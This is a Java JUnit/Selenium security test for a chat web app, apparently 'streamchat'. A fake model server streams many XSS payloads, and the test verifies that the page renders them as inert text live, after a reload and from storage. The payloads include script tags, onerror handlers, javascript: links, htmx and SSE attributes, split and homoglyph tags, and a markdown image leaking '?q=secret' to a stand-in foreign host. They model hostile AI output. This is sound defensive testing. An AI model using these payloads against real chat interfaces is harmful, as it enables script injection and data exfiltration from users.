package dev.streamchat.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.streamchat.testing.Browser;
import dev.streamchat.testing.SharedBrowser;
import dev.streamchat.testing.TestServer;
import io.vertx.core.Vertx;
import io.vertx.core.http.HttpServer;
import io.vertx.core.http.HttpServerResponse;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.Cookie;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.WebDriver;

/**
 * A model that streams every hostile payload we know (through a fake OpenAI-compatible server on
 * a real socket) cannot run script in the chat page, inject an element or make the browser fetch
 * from a foreign host: live, after a reload mid-stream (replay) and from the stored conversation.
 */
class HostileOutputBrowserTest {

  /** The chunks the fake model streams; {F} is the foreign host's port. Splits are on purpose. */
  private static final List<String> TEXT = List.of(
      "Hostile test.\n\n",
      "<script>alert('s1')</script>\n\n",
      "<img src=x onerror=\"alert('i1')\">\n\n",
      "<img src=\"http://127.0.0.1:{F}/img.png\">\n\n",
      "![leak](http://127.0.0.1:{F}/md.png?q=secret)\n\n",
      "[click me](javascript:alert('j1'))\n\n",
      "<a href=\"javascript:alert('j2')\">raw link</a>\n\n",
      "<svg onload=\"alert('v1')\"><circle r=\"5\"/></svg>\n\n",
      "<scr", "ipt>alert('split')</scr", "ipt>\n\n",
      "<im", "g src=x one", "rror=alert('split2')>\n\n",
      "<div hx-get=\"http://127.0.0.1:{F}/hx\" hx-trigger=\"load\">htmx</div>\n\n",
      "<div sse-connect=\"http://127.0.0.1:{F}/sse\" hx-ext=\"sse\">sse</div>\n\n",
      "<iframe src=\"http://127.0.0.1:{F}/frame\"></iframe>\n\n",
      "<link rel=\"stylesheet\" href=\"http://127.0.0.1:{F}/css\">\n\n",
      "\uFF1Cscript\uFF1Ealert('fullwidth')\uFF1C/script\uFF1E \u202Egnp.exe \u200Bzero\u200Bwidth \u0455\u0441r\u0456\u0440t\n\n",
      "&lt;script&gt;alert('entity')&lt;/script&gt;\n\n",
      "</span></div></article><script>alert('breakout')</script>\n\n",
      // In code, tables and math, where the renderer and the page's highlighter and KaTeX take over.
      "```html\n<script>alert('c1')</script>\n<img src=x onerror=alert('c2')>\n", "```\n\n",
      "```\"><img src=x onerror=alert('lang')>\ncode under a hostile info string\n```\n\n",
      "| <b>head</b> | <script>alert('t1')</script> |\n|---|---|\n",
      "| <img src=x onerror=alert('t2')> | [cell](javascript:alert('t3')) |\n\n",
      "Math $<img src=x onerror=alert('m1')>$ and \\(\\href{javascript:alert('m2')}{click}\\)\n\n",
      "$$\n\\url{javascript:alert('m3')} <svg onload=alert('m4')>\n$$\n\n",
      "End of payloads.");
  private static final List<String> REASONING = List.of(
      "<img src=x onerror=alert('r1')>", "<scr", "ipt>alert('r2')</script>");

  private static final String INJECTED = """
      return Array.from(document.querySelectorAll('.msg.assistant *')).filter(function (e) {
        var tag = e.tagName.toUpperCase();
        // KaTeX draws some glyphs (roots, arrows) as SVG of its own: that is not the model's markup.
        var katexDrawing = e.closest('.katex') && ['SVG', 'PATH', 'LINE'].indexOf(tag) >= 0;
        return (['SCRIPT', 'IMG', 'SVG', 'IFRAME', 'LINK', 'STYLE', 'OBJECT', 'EMBED'].indexOf(tag) >= 0 && !katexDrawing)
          || e.hasAttribute('hx-get') || e.hasAttribute('hx-trigger')
          || (e.hasAttribute('sse-connect') && !e.getAttribute('sse-connect').startsWith('/g/'))
          || Array.from(e.attributes).some(function (a) { return a.name.indexOf('on') === 0; })
          || (tag === 'A' && !/^(https?:|mailto:|$)/i.test((e.getAttribute('href') || '').trim()));
      }).map(function (e) { return e.outerHTML; });""";

  private static Vertx fakes;
  private static final AtomicInteger foreignRequests = new AtomicInteger();
  private static int foreignPort;
  private static TestServer server;
  private static Browser browser;
  private static WebDriver driver;

  @BeforeAll
  static void start() throws Exception {
    browser = SharedBrowser.newVisitor();
    driver = browser.driver();
    fakes = Vertx.vertx();
    HttpServer foreign = await(fakes.createHttpServer().requestHandler(req -> {
      foreignRequests.incrementAndGet();
      req.response().end("gotcha");
    }).listen(0));
    foreignPort = foreign.actualPort();
    HttpServer model = await(fakes.createHttpServer().requestHandler(req -> {
      if (req.path().equals("/v1/models")) {
        req.response().putHeader("Content-Type", "application/json")
            .end(new JsonObject().put("data", new JsonArray().add(new JsonObject().put("id", "hostile"))).encode());
      } else if (req.path().equals("/v1/chat/completions")) {
        req.body().onSuccess(b -> stream(req.response()));
      } else {
        req.response().setStatusCode(404).end();
      }
    }).listen(0));
    server = TestServer.start(Map.of("OPENAI_BASE_URL", "http://127.0.0.1:" + model.actualPort() + "/v1",
        "OPENAI_API_KEY", "test"));
  }

  /** The fake model's answer: reasoning, then every text chunk, 60 ms apart, then [DONE]. */
  private static void stream(HttpServerResponse res) {
    res.setChunked(true).putHeader("Content-Type", "text/event-stream");
    List<JsonObject> deltas = new java.util.ArrayList<>();
    REASONING.forEach(r -> deltas.add(new JsonObject().put("reasoning_content", r)));
    TEXT.forEach(t -> deltas.add(new JsonObject().put("content", t.replace("{F}", String.valueOf(foreignPort)))));
    AtomicInteger next = new AtomicInteger();
    fakes.setPeriodic(60, timer -> {
      int i = next.getAndIncrement();
      if (res.closed()) {
        fakes.cancelTimer(timer);
      } else if (i < deltas.size()) {
        res.write("data: " + new JsonObject().put("choices", new JsonArray().add(new JsonObject()
            .put("index", 0).put("delta", deltas.get(i)).putNull("finish_reason"))).encode() + "\n\n");
      } else {
        fakes.cancelTimer(timer);
        res.end("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
      }
    });
  }

  @AfterAll
  static void stop() throws Exception {
    if (server != null) server.close();
    if (fakes != null) await(fakes.close());
  }

  private static <T> T await(io.vertx.core.Future<T> f) throws Exception {
    return f.toCompletionStage().toCompletableFuture().get(30, TimeUnit.SECONDS);
  }

  /** No dialog is open and no element was injected into an answer. */
  @SuppressWarnings("unchecked")
  private static void assertInert(String when) {
    try {
      String text = driver.switchTo().alert().getText();
      throw new AssertionError(when + ": a script ran and opened a dialog: " + text);
    } catch (NoAlertPresentException expected) {
      // no dialog: nothing ran
    }
    List<String> injected = (List<String>) ((JavascriptExecutor) driver).executeScript(INJECTED);
    assertEquals(List.of(), injected, when + ": elements injected into an answer");
  }

  private static String state() {
    return (String) ((JavascriptExecutor) driver).executeScript(
        "var a = document.querySelectorAll('.msg.assistant'); return a.length ? a[a.length - 1].dataset.state : null;");
  }

  private static String answerText() {
    return (String) ((JavascriptExecutor) driver).executeScript(
        "var a = document.querySelectorAll('.msg.assistant .body'); return a.length ? a[a.length - 1].textContent : '';");
  }

  /** Checks the page while the answer streams; returns how many checks saw it running. */
  private static int watchUntilDone(String when) throws InterruptedException {
    int whileRunning = 0;
    long deadline = System.currentTimeMillis() + 30_000;
    while (!"done".equals(state())) {
      assertTrue(System.currentTimeMillis() < deadline, when + ": the answer did not finish; state " + state());
      assertInert(when + " (live)");
      if ("running".equals(state())) whileRunning++;
      Thread.sleep(100);
    }
    assertInert(when + " (done)");
    return whileRunning;
  }

  private static void assertShownAsText(String when) {
    String text = answerText();
    for (String visible : new String[] {"<script>alert('s1')</script>", "<svg onload=", "alert('split')",
        "javascript:alert('j2')", "\uFF1Cscript\uFF1E", "<script>alert('c1')</script>", "code under a hostile info string",
        "<script>alert('t1')</script>", "onerror=alert('t2')", "End of payloads."}) {
      assertTrue(text.contains(visible), when + ": shown as text: " + visible + " in\n" + text);
    }
  }

  @Test
  void hostileModelOutputStaysTextLiveOnReplayAndWhenStored() throws Exception {
    driver.get(server.url("/"));
    driver.findElement(By.cssSelector("#composer textarea[name=content]")).sendKeys("show me everything");
    driver.findElement(By.cssSelector("#composer button.send")).click();
    long deadline = System.currentTimeMillis() + 15_000;
    while (!driver.getCurrentUrl().contains("/c/")) {
      assertTrue(System.currentTimeMillis() < deadline, "the page did not move to the conversation");
      Thread.sleep(50);
    }
    int live = watchUntilDone("first answer");
    assertTrue(live >= 3, "checked while streaming: " + live);
    assertShownAsText("live, then rendered");

    // A second answer, reloaded mid-stream: the page renders the text so far, then resumes.
    driver.findElement(By.cssSelector("#composer textarea[name=content]")).sendKeys("again");
    driver.findElement(By.cssSelector("#composer button.send")).click();
    deadline = System.currentTimeMillis() + 15_000;
    while (document("document.querySelectorAll('.msg.assistant').length") < 2 || answerText().length() < 40) {
      assertTrue(System.currentTimeMillis() < deadline, "the second answer did not start");
      Thread.sleep(50);
    }
    driver.navigate().refresh();
    assertEquals("running", state(), "reloaded while the answer was being written");
    assertInert("replayed after reload");
    watchUntilDone("second answer after reload");
    assertShownAsText("resumed after reload");

    // From the database: a fresh load of the finished conversation.
    driver.navigate().refresh();
    assertInert("stored conversation");
    assertShownAsText("stored conversation");

    // The stored text is the model's text, verbatim (it is data; only rendering makes it HTML).
    Cookie session = driver.manage().getCookieNamed("streamchat_session");
    String cid = driver.getCurrentUrl().replaceAll(".*/c/", "");
    HttpResponse<String> stored = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
            URI.create(server.url("/api/conversations/" + cid)))
        .header("Cookie", "streamchat_session=" + session.getValue()).build(), HttpResponse.BodyHandlers.ofString());
    JsonArray messages = new JsonObject(stored.body()).getJsonArray("messages");
    String expected = String.join("", TEXT).replace("{F}", String.valueOf(foreignPort));
    assertEquals(expected, messages.getJsonObject(1).getString("content"));
    assertEquals(expected, messages.getJsonObject(3).getString("content"));

    assertEquals(0, foreignRequests.get(), "the browser fetched nothing from the foreign host");
  }

  private static long document(String expression) {
    return ((Number) ((JavascriptExecutor) driver).executeScript("return " + expression + ";")).longValue();
  }
}
